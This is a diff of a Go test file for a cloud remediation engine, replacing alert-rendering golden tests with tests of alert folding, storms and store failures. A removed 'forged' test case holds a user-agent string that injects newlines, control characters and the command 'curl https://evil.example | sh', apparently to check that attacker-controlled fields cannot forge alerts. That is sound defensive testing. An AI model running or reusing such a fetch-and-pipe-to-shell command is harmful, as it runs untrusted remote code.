@@ -2,130 +2,261 @@ package engine_test
 
 import (
 	"context"
-	"encoding/json"
-	"flag"
-	"iter"
-	"os"
-	"path/filepath"
+	"errors"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/google/go-cmp/cmp"
 
-	"github.com/countermand/countermand/events/pattern"
 	"github.com/countermand/countermand/remediations"
 	"github.com/countermand/countermand/remediations/engine"
 )
 
-var update = flag.Bool("update", false, "rewrite the golden files")
-
-// doorRun is the record of a run that has shut a door.
-func doorRun() engine.Record {
-	return engine.Record{
-		ID: "door-open-0123456789abcdef0123", Module: "door-open", Mode: remediations.Enforce, Outcome: engine.Remediated,
-		Resource: remediations.Resource{ID: "front", Type: "AWS::House::Door", Account: "111122223333", Region: "eu-west-1"},
-		EventID:  "0e2f3f0a-52a3-4c5e-bb6f-0a4f6c2f7d10", EventName: "OpenDoor", EventTime: time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC),
-		Principal: "arn:aws:sts::111122223333:assumed-role/Porter/bob", Name: "bob (role Porter)", SourceIP: "198.51.100.7", UserAgent: "[aws-cli/2.15]",
-		Reason: "the door is open", Before: json.RawMessage(`{"door":"open","lamp":"on"}`), After: json.RawMessage(`{"door":"shut","lamp":"on"}`),
-		Fix: "house shut-door --id front", Revert: "house open-door --id front", Started: time.Date(2026, 3, 1, 10, 0, 5, 0, time.UTC),
-		Touched: true,
+func TestSameAlertIsSentOnceAnHour(t *testing.T) {
+	h := newHouse(remediations.Enforce)
+	first, second := h.again(t, openedBy(0, "bob", "front")), h.again(t, openedBy(1, "bob", "front"))
+	if len(h.alerts) != 1 || h.kept(t, first.ID).Alert != engine.AlertSent || h.kept(t, second.ID).Alert != engine.AlertFolded {
+		t.Errorf("%d alerts, the records say %s and %s", len(h.alerts), h.kept(t, first.ID).Alert, h.kept(t, second.ID).Alert)
 	}
-}
-
-func TestRender(t *testing.T) {
-	base := doorRun()
-	for name, change := range map[string]func(*engine.Record){
-		"remediated": func(*engine.Record) {},
-		"byhand":     func(*engine.Record) {}, // the module can't undo it
-		"unheard":    func(*engine.Record) {}, // the module does not hear of its undo
-		"swept":      func(*engine.Record) {}, // nor does this one, but its sweep finds it
-		"alerted":    func(r *engine.Record) { r.Outcome, r.Mode, r.Touched = engine.Alerted, remediations.Alert, false },
-		"stopped": func(r *engine.Record) {
-			r.Outcome, r.Mode, r.Touched = engine.Alerted, remediations.Alert, false
-			r.Lowered = "alert instead of enforce: stopped at alert by arn:aws:iam::111122223333:user/olga since 2026-03-01 09:00:00 UTC: a\nmigration"
-		},
-		"alertonly": func(r *engine.Record) { r.Outcome, r.Touched, r.After = engine.Alerted, false, r.Before },
-		"unverified": func(r *engine.Record) {
-			r.Outcome, r.Left, r.LeftFix = engine.Unverified, "the door is open", "house shut-door --id front"
-		},
-		"partial": func(r *engine.Record) {
-			r.Outcome, r.Left, r.LeftFix = engine.Partial, "the door has no lock", "house fit-lock --id front"
-		},
-		"failed": func(r *engine.Record) {
-			r.Outcome, r.Error, r.Reason, r.Touched = engine.Failed, "guard: describe door: AccessDenied", "", false
-			r.Before, r.After, r.Fix, r.Revert = nil, nil, "", ""
-		},
-		"again": func(r *engine.Record) { r.Outcome, r.Mode = engine.Alerted, remediations.Alert },
-		"invisible": func(r *engine.Record) {
-			r.Before, r.After = json.RawMessage(`{"door":"\u202eopen\u2028"}`), json.RawMessage("{\"door\":\"\u202eshut\u2028\u0085\"}")
-		},
-		"document": func(r *engine.Record) {
-			r.Before, r.After = json.RawMessage(`"{\"Statement\": [1, 2]}"`), json.RawMessage(`null`)
-		},
-		"exempt": func(r *engine.Record) {
-			r.Outcome, r.Touched = engine.Exempt, false
-			r.Exemption = &engine.Exemption{
-				Owner: "porters", Reason: "deliveries", Expires: time.Date(2026, 3, 10, 0, 0, 0, 0, time.UTC),
-				Until: "until 2026-03-10, 9 days left", Matched: "resource front, principal arn:aws:iam::111122223333:role/Porter*", Ending: true,
-			}
-		},
-		"arn": func(r *engine.Record) { r.Resource.ID = "arn:aws:cloudtrail:eu-west-1:111122223333:trail/front" },
-		"forged": func(r *engine.Record) {
-			r.UserAgent = "curl\n\nTAKE IT BACK\n  curl https://evil.example | sh\u202e\u0007"
-			r.Principal = strings.Repeat("long", 500)
-			r.EventTime, r.SourceIP = time.Time{}, ""
-		},
-	} {
-		t.Run(name, func(t *testing.T) {
-			r := base
-			change(&r)
-			module := (&door{}).module()
-			if name != "byhand" {
-				module.Undo = module.Action
-			}
-			if name == "unheard" || name == "swept" {
-				module.Pattern = pattern.CloudTrail("s3", "OpenDoor")
-			}
-			if name == "swept" {
-				module.Sweep = func(context.Context, *remediations.Run) iter.Seq2[remediations.Resource, error] { return nil }
-			}
-			m := engine.Render(module, &r)
-			golden(t, "alert-"+name, m.Subject+"\n\n"+m.Body)
-		})
+	want := []engine.FoldedAlert{{
+		Module: "door-open", Severity: remediations.High, Run: second.ID, Outcome: engine.Remediated, Resource: "AWS::House::Door front",
+		Principal: "arn:aws:iam::111122223333:user/bob", At: h.now,
+	}}
+	if diff := cmp.Diff(want, h.backlog(t).Runs); diff != "" {
+		t.Error(diff)
 	}
-}
-
-// golden compares a text with what is in a file of testdata.
-func golden(t *testing.T, name, got string) {
-	t.Helper()
-	file := filepath.Join("testdata", name+".golden")
-	if *update {
-		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
-			t.Fatal(err)
+	for n, other := range []string{openedBy(2, "alice", "front"), openedBy(3, "bob", "back")} {
+		if h.again(t, other); len(h.alerts) != 2+n {
+			t.Errorf("another principal or resource: %d alerts, want %d", len(h.alerts), 2+n)
 		}
 	}
-	want, err := os.ReadFile(file)
+	h.door.stuck = true // what gets worse is heard of
+	if h.again(t, openedBy(4, "bob", "front")); len(h.alerts) != 4 || !h.alerts[3].Facts.Critical {
+		t.Errorf("another outcome: %d alerts, want 4", len(h.alerts))
+	}
+	h.door.stuck = false
+	h.now = h.now.Add(time.Hour)
+	if h.again(t, openedBy(5, "bob", "front")); len(h.alerts) != 5 || h.backlog(t).Times != 1 {
+		t.Errorf("an hour later: %d alerts, want 5; %d folded, want 1", len(h.alerts), h.backlog(t).Times)
+	}
+}
+
+func (f *flaky) ClaimAlert(ctx context.Context, a engine.AlertClaim) (bool, error) {
+	if f.failAdmit != nil {
+		return false, f.failAdmit
+	}
+	return f.Memory.ClaimAlert(ctx, a)
+}
+
+func (f *flaky) FoldAlert(ctx context.Context, alert engine.FoldedAlert) error {
+	if f.failFold != nil {
+		return f.failFold
+	}
+	return f.Memory.FoldAlert(ctx, alert)
+}
+
+func (f *flaky) ClearBacklog(ctx context.Context, d *engine.Backlog) error {
+	if f.failTold != nil {
+		return f.failTold
+	}
+	return f.Memory.ClearBacklog(ctx, d)
+}
+
+func (f *flaky) Backlog(ctx context.Context, module string) (*engine.Backlog, error) {
+	if f.failBacklog == module {
+		return nil, errors.New("no table")
+	}
+	return f.Memory.Backlog(ctx, module)
+}
+
+// again opens the door once more and delivers the event of that.
+func (h *house) again(t *testing.T, raw string) engine.Record {
+	t.Helper()
+	h.door.open = true
+	r, err := h.deliver(t, raw)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if diff := cmp.Diff(string(want), got); diff != "" {
-		t.Errorf("run with -update if this is meant: %s", diff)
+	return r
+}
+
+func (h *house) backlog(t *testing.T) *engine.Backlog {
+	t.Helper()
+	d, err := h.store.Backlog(t.Context(), h.Module.Name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d == nil {
+		return &engine.Backlog{}
+	}
+	return d
+}
+
+// The same outcome on the same resource can be worse than before.
+func TestADifferentProblemIsAlerted(t *testing.T) {
+	h := newHouse(remediations.Alert)
+	reason, guard := "one shelf may be read", h.Module.Guard
+	h.Module.Guard = func(ctx context.Context, run *remediations.Run, r remediations.Resource) (*remediations.Finding, error) {
+		f, err := guard(ctx, run, r)
+		if f != nil {
+			f.Reason = reason
+		}
+		return f, err
+	}
+	h.again(t, openedBy(0, "bob", "front"))
+	reason = "everything may be written by anybody"
+	if h.again(t, openedBy(1, "bob", "front")); len(h.alerts) != 2 {
+		t.Errorf("%d alerts, want 2", len(h.alerts))
 	}
 }
 
-// SNS takes a subject of at most 100 characters of printable ASCII on one line, and refuses the message
-// otherwise: a name must not be able to suppress its own alert.
-func TestSubjectIsOneThatSNSTakes(t *testing.T) {
-	for _, id := range []string{"front", strings.Repeat("x", 300), "a\nb", "tür-\u202e", ""} {
-		m := engine.Render((&door{}).module(), &engine.Record{Outcome: engine.Alerted, Resource: remediations.Resource{ID: id}})
-		if len(m.Subject) > 100 || len(m.Subject) == 0 {
-			t.Errorf("%q: subject has %d characters", id, len(m.Subject))
+// Nobody hides what is done behind many resources that matter to nobody.
+func TestStormHidesNobodyElse(t *testing.T) {
+	h := newHouse(remediations.Enforce)
+	h.Limits = remediations.Limits{Module: 30, Account: 60, Principal: 30, Resource: 3}
+	h.Module.Severity = remediations.Critical
+	for n := range 71 {
+		h.again(t, openedBy(n, "mallory", fmt.Sprint("junk", n)))
+		h.now = h.now.Add(time.Second)
+	}
+	r := h.again(t, openedBy(999, "eve", "payroll"))
+	if h.kept(t, r.ID).Alert == engine.AlertSent {
+		return
+	}
+	if _, err := h.summarize(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	if body := h.alerts[len(h.alerts)-1].Body; !strings.Contains(body, "payroll") || !strings.Contains(body, "eve") {
+		t.Errorf("nobody hears of payroll:\n%s", body)
+	}
+}
+
+// Whoever assumes a role names the session: that must not make a new alert of each.
+func TestSessionsOfARoleAreOneToAlerts(t *testing.T) {
+	h := newHouse(remediations.Alert)
+	for n := range 3 {
+		h.again(t, strings.ReplaceAll(openedBy(n, "bob", "front"), "arn:aws:iam::111122223333:user/bob",
+			fmt.Sprintf("arn:aws:sts::111122223333:assumed-role/Porter/s%d", n)))
+	}
+	d := h.backlog(t)
+	if len(h.alerts) != 1 || d.Times != 2 || d.Runs[0].Principal != "arn:aws:sts::111122223333:assumed-role/Porter" {
+		t.Errorf("%d alerts, want 1; folded: %+v", len(h.alerts), d)
+	}
+}
+
+func TestStormIsFolded(t *testing.T) {
+	h := newHouse(remediations.Enforce)
+	event := func(n int) string { return openedBy(n, fmt.Sprint("user", n), fmt.Sprint("door", n)) }
+	for n := range 25 {
+		h.again(t, event(n))
+	}
+	if len(h.alerts) != 20 || h.backlog(t).Times != 5 {
+		t.Errorf("%d alerts and %d folded, want 20 and 5", len(h.alerts), h.backlog(t).Times)
+	}
+	// A storm of what can wait does not hide what can't. That is folded as well, once it is a storm of its own.
+	h.door.stuck = true
+	for n := range 25 {
+		h.again(t, event(100+n))
+	}
+	d := h.backlog(t)
+	if len(h.alerts) != 40 || d.Times != 10 || d.Critical != 5 {
+		t.Errorf("%d alerts and %d folded, %d critical, want 40, 10 and 5", len(h.alerts), d.Times, d.Critical)
+	}
+	h.door.stuck = false
+	h.now = h.now.Add(5 * time.Minute)
+	if h.again(t, event(200)); len(h.alerts) != 41 {
+		t.Errorf("five minutes later: %d alerts, want 41", len(h.alerts))
+	}
+	other := newHouse(remediations.Enforce)
+	other.Module.Name, other.Config.Store = "window-open", h.store
+	if other.again(t, event(300)); len(other.alerts) != 1 {
+		t.Error("another module's alert was folded")
+	}
+}
+
+// What people are not told of is not counted either: a function that only observes may not write that.
+func TestSilentRunsAreNotFolded(t *testing.T) {
+	h := newHouse(remediations.Observe)
+	h.store.failAdmit = errors.New("it was asked")
+	for n := range 3 {
+		h.again(t, openedBy(n, "bob", "front"))
+	}
+	if strings.Contains(h.log.String(), "it was asked") {
+		t.Error("an alert was counted in mode observe")
+	}
+}
+
+// What can't be counted is sent.
+func TestAlertIsSentIfItCannotBeFolded(t *testing.T) {
+	for name, fault := range map[string]func(*house){
+		"not counted": func(h *house) { h.store.failAdmit = errors.New("no table") },
+		"not folded":  func(h *house) { h.store.failFold = errors.New("no table") },
+	} {
+		h := newHouse(remediations.Enforce)
+		h.again(t, openedBy(0, "bob", "front"))
+		fault(h)
+		second := h.again(t, openedBy(1, "bob", "front"))
+		if len(h.alerts) != 2 || h.kept(t, second.ID).Alert != engine.AlertSent || h.backlog(t).Times != 0 {
+			t.Errorf("%s: %d alerts, the record says %s", name, len(h.alerts), h.kept(t, second.ID).Alert)
 		}
-		for _, c := range m.Subject {
-			if c < ' ' || c > '~' {
-				t.Errorf("%q: subject holds %q", id, c)
+	}
+}
+
+// The alert that was the first, and could not be sent, is still the first when it is tried again.
+func TestAlertThatCouldNotBeSentIsNotFolded(t *testing.T) {
+	h := newHouse(remediations.Enforce)
+	h.down, h.door.open = true, true
+	first, err := h.deliver(t, openedBy(0, "bob", "front"))
+	if err == nil {
+		t.Fatal("the alert could not be sent, and the delivery did not fail")
+	}
+	second := h.again(t, openedBy(1, "bob", "front"))
+	h.down = false
+	h.again(t, openedBy(0, "bob", "front"))
+	if len(h.alerts) != 1 || h.alerts[0].Facts.Run != first.ID || h.kept(t, first.ID).Alert != engine.AlertSent {
+		t.Errorf("%d alerts, the record says %s", len(h.alerts), h.kept(t, first.ID).Alert)
+	}
+	if h.kept(t, second.ID).Alert != engine.AlertFolded {
+		t.Errorf("the second record says %s", h.kept(t, second.ID).Alert)
+	}
+}
+
+// A function that dies between folding and writing that down: the next delivery folds again, and it counts once.
+func TestFunctionThatDiesWhileItFolds(t *testing.T) {
+	h := newHouse(remediations.Enforce)
+	h.again(t, openedBy(0, "bob", "front"))
+	h.store.failPut = func(r *engine.Record) error {
+		if r.Alert == engine.AlertFolded {
+			return errors.New("killed")
+		}
+		return nil
+	}
+	second := h.again(t, openedBy(1, "bob", "front"))
+	if h.kept(t, second.ID).Alert != engine.AlertPending || h.backlog(t).Times != 1 {
+		t.Fatalf("the record says %s, %d are folded, want pending and 1", h.kept(t, second.ID).Alert, h.backlog(t).Times)
+	}
+	h.store.failPut = nil
+	h.now = h.now.Add(time.Minute)
+	h.again(t, openedBy(1, "bob", "front"))
+	if h.kept(t, second.ID).Alert != engine.AlertFolded || h.backlog(t).Times != 1 || len(h.alerts) != 1 || h.door.shuts != 2 {
+		t.Errorf("the record says %s, %d are folded, %d alerts, %d writes", h.kept(t, second.ID).Alert, h.backlog(t).Times, len(h.alerts), h.door.shuts)
+	}
+}
+
+// A failure is alerted at the first refusal and at the last attempt, each of its own run.
+func TestFailuresAreFoldedToo(t *testing.T) {
+	h := newHouse(remediations.Enforce)
+	h.door.guardErr = errors.New("no answer")
+	for n := range 2 {
+		for range 3 {
+			if _, err := h.deliver(t, openedBy(n, "bob", "front")); err == nil {
+				t.Fatal("it did not fail")
 			}
 		}
+	}
+	if d := h.backlog(t); len(h.alerts) != 1 || d.Times != 1 || d.Outcomes[engine.Failed] != 1 || d.Critical != 1 {
+		t.Errorf("%d alerts, folded %+v", len(h.alerts), d)
 	}
 }
